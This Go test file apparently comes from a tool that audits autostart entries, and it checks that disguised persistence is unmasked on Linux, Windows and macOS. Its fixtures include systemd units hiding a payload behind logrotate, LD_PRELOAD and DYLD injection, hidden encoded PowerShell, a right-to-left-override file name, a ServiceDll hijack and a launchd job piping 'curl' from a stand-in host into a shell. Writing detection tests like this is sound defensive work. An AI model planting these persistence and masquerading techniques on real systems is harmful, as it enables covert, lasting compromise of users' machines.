package cli_test

import (
	"crypto/md5"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"lockback/core/format/regf"
	"lockback/internal/testkit"
)

// disguise is a stranger's entry that would be taken for the system's.
type disguise struct {
	name  string            // of the entry, as a list shows it
	files map[string]string // what it consists of
}

// unit is the text of a service.
func unit(lines ...string) string {
	return "[Unit]\nDescription=Tide\n[Service]\n" + strings.Join(lines, "\n") +
		"\n[Install]\nWantedBy=multi-user.target\n"
}

func autostartFile(exec string) string {
	return "[Desktop Entry]\nType=Application\nName=Tide Shell\nExec=" + exec + "\n"
}

const evil = "/opt/tide/evil"

var linuxDisguises = []disguise{
	// Names of the system's in a package of somebody else.
	{"systemd-tidesync.service", map[string]string{"/usr/lib/systemd/system/systemd-tidesync.service": unit(
		"ExecStart=/usr/lib/systemd/systemd-tidesync"), "/usr/lib/systemd/systemd-tidesync": "#!/bin/sh\n"}},
	{"dbus-org.tide.service", map[string]string{"/usr/lib/systemd/system/dbus-org.tide.service": unit("ExecStart=" +
		evil)}},
	{"nfs-tide.service", map[string]string{"/usr/lib/systemd/system/nfs-tide.service": unit("ExecStart=/sbin/agetty")}},
	{"Tide Shell", map[string]string{"/etc/xdg/autostart/gnome-shell-tide.desktop": autostartFile(
		"/usr/bin/gnome-shell-tide"), "/usr/bin/gnome-shell-tide": "#!/bin/sh\n"}},
	// The system's program in front.
	{"first.service", map[string]string{"/etc/systemd/system/first.service": unit(
		`ExecStart=/bin/sh -c "/usr/sbin/logrotate --version; ` + evil + `"`)}},
	{"second.service", map[string]string{"/etc/systemd/system/second.service": unit("Type=oneshot",
		"ExecStart=/usr/sbin/logrotate --version", "ExecStart="+evil)}},
	{"post.service", map[string]string{"/etc/systemd/system/post.service": unit("ExecStart=/usr/sbin/logrotate",
		"ExecStopPost=-"+evil)}},
	{"semicolon.service", map[string]string{"/etc/systemd/system/semicolon.service": unit("Type=oneshot",
		"ExecStart=/usr/sbin/logrotate --version ; "+evil)}},
	{"called.service", map[string]string{"/etc/systemd/system/called.service": unit("ExecStart=@" + evil +
		" /usr/sbin/logrotate")}},
	{"cron.service", map[string]string{"/etc/systemd/system/cron.service.d/tide.conf": "[Service]\nExecStartPost=" +
		evil +
		"\n"}},
	{"logrotate /etc/cron.d/tide", map[string]string{
		"/etc/cron.d/tide": "0 1 * * * root test -x /usr/sbin/logrotate && /usr/sbin/logrotate " +
			"/etc/x && " + evil + "\n"}},
	// A launcher that is somebody else's, and what it is made to load.
	{"env.service", map[string]string{"/etc/systemd/system/env.service": unit("ExecStart=/opt/tide/env A=1 " +
		"/usr/sbin/logrotate"),
		"/opt/tide/env": "#!/bin/sh\n"}},
	{"preload.service", map[string]string{"/etc/systemd/system/preload.service": unit(
		"ExecStart=/usr/bin/env LD_PRELOAD=" + evil + " /usr/sbin/logrotate")}},
	{"path.service", map[string]string{"/etc/systemd/system/path.service": unit(
		`ExecStart=/bin/sh -c "PATH=/opt/tide:$PATH logrotate"`)}},
	// What shows only when it runs.
	{"function.service", map[string]string{"/etc/systemd/system/function.service": unit(
		`ExecStart=/bin/sh -c "f() { ` + evil + `; }; f"`)}},
	{"inner.service", map[string]string{"/etc/systemd/system/inner.service": unit(
		`ExecStart=/bin/sh -c "/usr/sbin/logrotate $(` + evil + `)"`)}},
	{"trap.service", map[string]string{"/etc/systemd/system/trap.service": unit(
		`ExecStart=/bin/sh -c "trap ` + evil + ` EXIT; /usr/sbin/logrotate"`)}},
	{"eval.service", map[string]string{"/etc/systemd/system/eval.service": unit(
		`ExecStart=/bin/sh -c "/usr/sbin/logrotate; eval $X"`)}},
	{"su.service", map[string]string{"/etc/systemd/system/su.service": unit(
		`ExecStart=/usr/bin/su ines -c "` + evil + `"`)}},
	{"xargs.service", map[string]string{"/etc/systemd/system/xargs.service": unit(
		`ExecStart=/bin/sh -c "/usr/sbin/logrotate | xargs -n 1 ` + evil + `"`)}},
}

// Nobody is hidden, or wears the maker of the system, by a name, by a program in front, or by what shows only when it
// runs; and each comes early in a review.
func TestDisguisesOnLinux(t *testing.T) {
	t.Parallel()
	p := testkit.Museum(t, "workshop-box")
	write := func(name, text string) {
		full := filepath.Join(p.Root, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(full), 0o755))
		require.NoError(t, os.WriteFile(full, []byte(text), 0o755))
	}
	write(evil, "#!/bin/sh\n")
	var list, sums strings.Builder
	packaged := func(name, text string) {
		fmt.Fprintf(&list, "%s\n", name)
		fmt.Fprintf(&sums, "%x  %s\n", md5.Sum([]byte(text)), name[1:])
	}
	for _, d := range linuxDisguises {
		for name, text := range d.files {
			write(name, text)
			if strings.HasPrefix(name, "/usr/lib/") || strings.HasPrefix(name, "/usr/bin/") ||
				strings.HasPrefix(name, "/etc/xdg/") {
				packaged(name, text)
			}
			if strings.HasSuffix(name, ".service") {
				link := filepath.Join(p.Root, "etc/systemd/system/multi-user.target.wants", filepath.Base(name))
				require.NoError(t, os.MkdirAll(filepath.Dir(link), 0o755))
				require.NoError(t, os.Symlink(name, link))
			}
		}
	}
	// A package of a stranger that says it is required delivered the first four, and the program.
	status := filepath.Join(p.Root, "var/lib/dpkg/status")
	text, err := os.ReadFile(status)
	require.NoError(t, err)
	write("/var/lib/dpkg/status", string(text)+
		"\nPackage: tide\nEssential: yes\nPriority: required\nStatus: install ok "+
		"installed\nMaintainer: Tide <post@tide.example>\nOrigin: Tide\nArchitecture: amd64\nVersion: 1\n")
	write("/var/lib/dpkg/info/tide.list", list.String())
	write("/var/lib/dpkg/info/tide.md5sums", sums.String())
	assertUnmasked(t, p, linuxDisguises)
}

// assertUnmasked fails where a disguise holds.
func assertUnmasked(t *testing.T, p testkit.Program, all []disguise) {
	t.Helper()
	type entry struct {
		Handle, Name string
		OSPart       bool   `json:"os_part"`
		OSBasis      string `json:"os_basis"`
		Maker        struct{ Name, Basis string }
		Source       struct{ Path string }
		Problems     []string
	}
	var listed struct{ Entries []entry }
	p.JSON(t, &listed, "list", "--all")
	var order struct {
		Entries []struct{ Handle, Name, Why string }
	}
	require.NoError(t, json.Unmarshal([]byte(p.OK(t, "review", "--format", "json")), &order))
	// The first that is there, works, has no problem, and whose maker is known.
	judged := slices.IndexFunc(order.Entries, func(e struct{ Handle, Name, Why string }) bool {
		return e.Why == "nobody has rated it yet"
	})
	if judged < 0 {
		judged = len(order.Entries)
	}
	place := map[string]int{}
	for k, e := range order.Entries {
		place[e.Handle] = k
	}
	for _, d := range all {
		k := slices.IndexFunc(listed.Entries, func(e entry) bool {
			return e.Name == d.name || e.Name+" "+e.Source.Path == d.name
		})
		require.GreaterOrEqual(t, k, 0, "%s is not listed", d.name)
		e := listed.Entries[k]
		at, shown := place[e.Handle]
		t.Logf("%3d %-28s maker %q %v %s", at, e.Name, e.Maker.Name, e.Problems, order.Entries[at].Why)
		require.False(t, e.OSPart, "%s is hidden (%s)", d.name, e.OSBasis)
		for _, system := range []string{"Distribution", "Apple", "Microsoft"} {
			require.NotContains(t, e.Maker.Name, system, d.name)
		}
		require.True(t, shown, "%s is in no review", d.name)
		require.Less(t, at, judged, "%s comes behind what is known", d.name)
	}
}

// windowsDisguises are commands of Run values by their names; what a list shows of them is never the system's.
var windowsDisguises = map[string]string{
	"and":        `cmd.exe /c C:\Windows\System32\svchost.exe -k x & C:\Tide\evil.exe`,
	"quoted":     `cmd /s /c "C:\Windows\System32\svchost.exe && C:\Tide\evil.exe"`,
	"pipe":       `cmd /c type x | C:\Tide\evil.exe`,
	"caret":      `cmd /c C:\Ti^de\ev^il.exe`,
	"if":         `cmd /c if exist C:\x C:\Tide\evil.exe`,
	"start":      `cmd /c start "" /min C:\Tide\evil.exe`,
	"library":    `rundll32.exe C:\Tide\evil.dll,Control_RunDLL main.cpl`,
	"through":    `rundll32.exe shell32.dll,ShellExec_RunDLL C:\Tide\evil.exe`,
	"text":       `powershell.exe -Command "C:\Tide\evil.exe"`,
	"encoded":    `powershell.exe -w hidden -enc VABpAGQAZQA=`,
	"script":     `wscript.exe C:\Tide\x.vbs`,
	"package":    `msiexec.exe /i C:\Tide\x.msi /qn`,
	"shell":      `explorer.exe C:\Tide\evil.exe`,
	"hidden":     `conhost.exe --headless C:\Tide\evil.exe`,
	"files":      `forfiles.exe /p C:\Windows /m win.ini /c "C:\Tide\evil.exe"`,
	"name":       `C:\Tide\svchost.exe -k netsvcs`,
	"around":     `C:\Windows\System32\..\..\Tide\lsass.exe`,
	"turned":     "C:\\Tide\\evil\u202egpj.exe",
	"bill":       `C:\Tide\bill.pdf.exe`,
	"nested":     `cmd /c cmd /c "C:\Windows\System32\svchost.exe & cmd /c C:\Tide\evil.exe"`,
	"Controller": `C:\Windows\System32\spool\drivers\color\svchost.exe`,
}

func TestDisguisesOnWindows(t *testing.T) {
	t.Parallel()
	var values []regf.Value
	for name, command := range windowsDisguises {
		values = append(values, regf.NewText(name, command))
	}
	files := map[string]string{"Tide\\evil\u202egpj.exe": ""}
	for _, name := range []string{`Tide\evil.exe`, `Tide\evil.dll`, `Tide\x.vbs`, `Tide\x.msi`, `Tide\svchost.exe`,
		`Tide\lsass.exe`, `Tide\bill.pdf.exe`, `Windows\System32\spool\drivers\color\svchost.exe`,
		`Windows\System32\svchost.exe`, `Windows\System32\cmd.exe`, `Windows\System32\rundll32.exe`,
		`Windows\System32\shell32.dll`, `Windows\System32\main.cpl`, `Windows\System32\wscript.exe`,
		`Windows\System32\msiexec.exe`, `Windows\System32\conhost.exe`, `Windows\System32\forfiles.exe`,
		`Windows\System32\WindowsPowerShell\v1.0\powershell.exe`} {
		files[name] = ""
	}
	root := testkit.WindowsAsItIs(t, testkit.Keys{`Microsoft\Windows\CurrentVersion\Run`: values}, testkit.Keys{
		// The name of a service of the system's, and a library of somebody else's.
		`ControlSet002\Services\Dnscache`: {regf.NewNumber("Type", 0x20), regf.NewNumber("Start", 2),
			regf.NewExpand("ImagePath", `%SystemRoot%\system32\svchost.exe -k NetworkService -p`)},
		`ControlSet002\Services\Dnscache\Parameters`: {regf.NewExpand("ServiceDll", `C:\Tide\evil.dll`)},
		`ControlSet002\Services\Spooler`: {regf.NewNumber("Type", 0x110), regf.NewNumber("Start", 2),
			regf.NewExpand("ImagePath", `C:\Tide\svchost.exe`)},
	}, files)
	all := []disguise{{name: "Dnscache"}, {name: "Spooler"}}
	for name := range windowsDisguises {
		all = append(all, disguise{name: name})
	}
	slices.SortFunc(all, func(a, b disguise) int { return strings.Compare(a.name, b.name) })
	assertUnmasked(t, testkit.Program{Root: root, Store: filepath.Join(t.TempDir(), "record.db")}, all)
}

// macDisguises are what jobs of launchd run, by their labels.
var macDisguises = map[string][]any{
	"org.tide.and":           {"/bin/sh", "-c", "/usr/bin/true; /Library/Tide/evil"},
	"org.tide.pipe":          {"/bin/zsh", "-c", "/usr/bin/true | /Library/Tide/evil"},
	"org.tide.function":      {"/bin/bash", "-c", "f() { /Library/Tide/evil; }; f"},
	"org.tide.inner":         {"/bin/sh", "-c", "/usr/bin/true $(/Library/Tide/evil)"},
	"org.tide.trap":          {"/bin/sh", "-c", "trap /Library/Tide/evil EXIT; /usr/bin/true"},
	"org.tide.eval":          {"/bin/sh", "-c", "/usr/bin/true; eval $X"},
	"org.tide.fed":           {"/bin/sh", "-c", "/usr/bin/curl -s tide.example | /bin/sh"},
	"org.tide.env":           {"/Library/Tide/env", "/usr/bin/true"},
	"org.tide.insert":        {"/usr/bin/env", "DYLD_INSERT_LIBRARIES=/Library/Tide/evil", "/usr/bin/true"},
	"org.tide.sudo":          {"/usr/bin/sudo", "-u", "ines", "/Library/Tide/evil"},
	"org.tide.nice":          {"/usr/bin/nice", "-n", "5", "/Library/Tide/evil"},
	"org.tide.arch":          {"/usr/bin/arch", "-arm64", "/Library/Tide/evil"},
	"org.tide.caffeinate":    {"/usr/bin/caffeinate", "-i", "/Library/Tide/evil"},
	"org.tide.open":          {"/usr/bin/open", "/Library/Tide/evil"},
	"org.tide.opened":        {"/bin/sh", "-c", "open -a Tide; /usr/bin/true"},
	"org.tide.python":        {"/usr/bin/python3", "-c", "print(1)"},
	"org.tide.script":        {"/usr/bin/osascript", "-e", "do shell script \"x\""},
	"com.apple.tide":         {"/Library/Tide/evil"},
	"org.tide.name":          {"/Library/Tide/loginwindow"},
	"com.apple.WindowServer": {"/Library/Tide/WindowServer", "-daemon"},
}

func TestDisguisesOnMacOS(t *testing.T) {
	t.Parallel()
	files := map[string]any{"/Library/Tide/evil": "#!/bin/sh\n", "/Library/Tide/env": "#!/bin/sh\n",
		"/Library/Tide/loginwindow": "#!/bin/sh\n", "/Library/Tide/WindowServer": "#!/bin/sh\n"}
	for _, name := range []string{"true", "env", "sudo", "nice", "arch", "caffeinate", "open", "python3", "osascript",
		"curl"} {
		files["/usr/bin/"+name] = ""
	}
	for _, name := range []string{"sh", "bash", "zsh"} {
		files["/bin/"+name] = ""
	}
	var all []disguise
	for label, arguments := range macDisguises {
		files["/Library/LaunchDaemons/tide."+label+".plist"] = map[string]any{"Label": label, "RunAtLoad": true,
			"ProgramArguments": arguments}
		all = append(all, disguise{name: label + " /Library/LaunchDaemons/tide." + label + ".plist"})
	}
	slices.SortFunc(all, func(a, b disguise) int { return strings.Compare(a.name, b.name) })
	assertUnmasked(t, testkit.Program{Root: testkit.MacAsItIs(t, files), Store: filepath.Join(t.TempDir(),
		"record.db")}, all)
}
